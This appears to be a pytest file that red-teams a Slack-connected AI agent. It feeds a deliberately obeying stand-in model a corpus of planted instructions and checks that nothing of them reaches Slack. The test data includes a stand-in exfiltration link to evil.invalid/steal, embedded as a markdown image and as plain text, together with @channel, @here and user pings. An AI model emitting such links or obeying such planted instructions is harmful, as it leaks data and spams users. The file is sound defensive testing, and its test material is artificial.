"""The whole corpus through Slack's wire: whatever a model obeys, Slack is given nothing of it.

Every URL in anything we write counts as fetched and every mention as ringing; one worker serves
all conversations, many at a time, and every answer tries to link and to ring on its own account.
"""

from collections.abc import AsyncGenerator
from typing import Any

import pytest
from sqlalchemy import update

from agent.turns import Engine
from agent.wiring import services
from db.models import Company
from db.session import Actor, Database
from tests.agent.slack.conftest import workspace_of
from tests.attack.conftest import earlier_work, filled
from tests.attack.siege import STREAMED, Crowd, Siege, waves
from tests.attack.world import Owner, corpus
from tests.conftest import NOW, settings_of
from tests.standins.model_server import ModelServer

_EVIL = "https://evil.invalid/steal?lot=PE-24-017"
_SAID = f"<!channel> Das steht hier: {_EVIL} und bei <@U0BOSS>. ![x]({_EVIL}) @here schaut mal! "
_FIRST = ("self_approve", "undo")  # what they go for must still be there


@pytest.fixture
async def siege(demo_url: tuple[str, str], demo: Database) -> AsyncGenerator[Siege]:
    """One application and one worker for all cases."""
    owner = Owner(demo_url[1])
    owner.make_secrets()
    numbers = await earlier_work(Engine(services(settings_of(), demo, lambda: NOW)))
    crowd = Crowd(_SAID)
    async with ModelServer(crowd) as provider:
        settings = settings_of(
            model="openai/obeying", model_base_url=provider.base_url, fallback_models=""
        )
        async with workspace_of(demo_url[0], demo, settings) as workspace:
            yield Siege(workspace, crowd, owner, numbers)


def cases_of(numbers: dict[str, int]) -> list[dict[str, Any]]:
    """Return the corpus for this database, what aims at something that may go away first."""
    cases = sorted(corpus(), key=lambda c: c["goal"] not in _FIRST)
    return [c | filled({k: c[k] for k in ("plant", "turns")}, numbers) for c in cases]


async def test_nothing_of_a_planted_instruction_reaches_slack(
    siege: Siege, demo: Database, capsys: pytest.CaptureFixture[str]
) -> None:
    slack, people = siege.workspace.slack, list(siege.workspace.people.values())
    slack.add_user("boss", id="U0BOSS")
    open_one = slack.add_channel("trading", *people)
    listed = slack.add_channel(STREAMED, *people, kind="private")
    async with demo.writing(Actor.system("test")) as session:
        await session.execute(update(Company).values(slack_channels=[listed.id]))
    places = [listed, open_one, people[0].im]
    for wave in waves(cases_of(siege.numbers)):
        await siege.play(wave, places)
        places = [*places[1:], places[0]]
    found = siege.problems()
    with capsys.disabled():
        print(
            f"\n{len(siege.asked)} planted, "
            f"{sum(bool(a.model.proposed) for a in siege.asked)} obeyed with calls, "
            f"{len(slack.called('chat.startStream'))} answers streamed, "
            f"{len(found) + len(siege.changed)} got through"
        )
    assert siege.changed == []
    assert found == []

    # The control of what came in: every model was reached and did try, in every kind of place.
    assert len(siege.asked) == len(corpus())
    tried = [a for a in siege.asked if a.model.proposed or a.model.said]
    assert len(tried) == len(siege.asked)
    wrote = [a for a in siege.asked if "evil.invalid/steal" in " ".join(a.model.said)]
    assert {a.channel.kind for a in wrote} == {"public", "private", "im"}
    assert slack.called("chat.startStream")

    # The control of what is looked at: a message posted past our drawing is seen for all it does.
    await siege.workspace.front.client.chat_postMessage(
        channel=open_one.id, text=f"<!here> {_EVIL} <@U0BOSS>"
    )
    noticed = [p.partition(": ")[0] for p in siege.problems()]
    assert noticed == ["link in text", "link", "ping in text", "ping in text", "elsewhere"]
